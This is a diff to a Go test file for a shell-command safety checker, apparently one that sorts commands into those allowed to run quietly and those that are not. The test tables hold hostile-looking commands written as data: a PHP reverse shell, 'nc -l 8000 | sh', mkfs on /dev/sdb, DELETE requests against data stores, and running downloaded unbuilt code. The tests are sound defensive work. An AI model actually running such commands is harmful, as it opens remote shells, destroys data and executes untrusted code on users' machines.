@@ -30,6 +30,11 @@ func TestQuiet(t *testing.T) {
 		{"a server that is being written", "python3 -c 'from http.server import *; HTTPServer((\"\", 8000), SimpleHTTPRequestHandler).serve_forever()'"},
 		{"a program that talks, and starts others", "python3 -c 'import subprocess, urllib.request as u; u.urlopen(\"http://localhost:8000/\"); subprocess.run([\"ls\"])'"},
 		{"keys are kept to their owner", "chmod 700 ~/.ssh; chmod 600 ~/.ssh/id_rsa; chmod go-rwx ~/.aws/credentials; chmod u=rw,go= ~/.netrc"},
+		{"what is being written is asked to delete", `curl -s -o /dev/null -w '%{http_code}' -X DELETE "http://localhost:8000/api/items/$id"`},
+		{"a file becomes a file system", "dd if=/dev/zero of=disk.img bs=1M count=64 && mkfs.ext4 -q disk.img"},
+		{"a mirror that is thrown away", "rsync -a --delete src/ /tmp/mirror/"},
+		{"a program that is being written deletes what is its own", "go build -o todo . && ./todo add x && ./todo delete 1; ./target/debug/kv rm x --force"},
+		{"sources are configured, built and tried", "curl -LO https://example.com/a.tgz && tar xf a.tgz && cd a && ./configure && make -j4 && ./a --version"},
 		{"directories are not copied without -r", "cp ~ /home /tmp/x"},
 	} {
 		d := check(p, test.command)
@@ -56,6 +61,16 @@ func TestQuietNoMore(t *testing.T) {
 		{"a shell at a descriptor", `php -r '$s=fsockopen("h",1);exec("sh -i <&3 >&3 2>&3");'`},
 		{"what comes over a port is code", "nc -l 127.0.0.1 8000 | sh"},
 		{"a port for everybody, of which nothing else is known", "nc -l 8000"},
+		{"what a store of data holds", "curl -X DELETE http://localhost:9200/logs; curl -X DELETE http://localhost:8001/services/x"},
+		{"one of two is elsewhere", "curl -X DELETE http://localhost:8000/x https://example.com/x"},
+		{"a host that is not known", `curl -X DELETE "$BASE/items/1"`},
+		{"a disk, and a device that is not known", `mkfs.ext4 -q /dev/sdb; mkfs.ext4 "$DEV"`},
+		{"a mirror of what nobody knows", `rsync -a --delete src/ "$DEST/"`},
+		{"a mirror of one's own", "rsync -a --delete src/ dst/"},
+		{"a program from elsewhere deletes", "frobnicate delete x"},
+		{"what is built takes something down", "./deploy destroy --yes"},
+		{"a script of what was unpacked", "curl -LO https://example.com/a.tgz && tar xf a.tgz && cd a && ./configure && make && ./install.sh"},
+		{"what was unpacked and not built", "curl -LO https://example.com/a.tgz && tar xf a.tgz && a/bin/x"},
 		{"the caches as a whole", "rm -rf /var/cache"},
 		{"what the packages are", "rm -rf /var/lib/dpkg/info/*"},
 	} {
